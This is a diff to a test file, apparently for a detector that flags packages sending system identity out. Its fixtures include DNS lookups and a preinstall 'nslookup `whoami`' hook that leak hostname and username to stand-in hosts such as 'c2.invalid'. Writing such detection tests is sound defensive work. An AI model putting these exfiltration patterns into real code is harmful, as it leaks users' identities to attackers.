@@ -46,6 +46,13 @@ examine(sendsSystemIdentity, {
       weight: 'proof',
     },
     {
+      when: 'a call puts two marks into a name of a domain',
+      files: {
+        'index.js': `const os = require('os'); exports.ask = () => require('dns').lookup(os.hostname() + '.' + os.userInfo().username + '.c2.invalid', () => {})`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a name is looked up',
       files: { 'package.json': { name: 'specimen', scripts: { preinstall: 'nslookup `whoami`.beacon.invalid' } } },
       weight: 'strong',
@@ -56,6 +63,12 @@ examine(sendsSystemIdentity, {
       when: 'telemetry sends it when called',
       files: {
         'index.js': `exports.track = () => fetch('https://telemetry.invalid/', { method: 'POST', body: require('os').hostname() })`,
+      },
+    },
+    {
+      when: 'a call looks up what the machine is called in its own network',
+      files: {
+        'index.js': `const os = require('os'); exports.find = () => require('dns').lookup(os.hostname() + '-' + os.userInfo().username + '.local', () => {})`,
       },
     },
     {
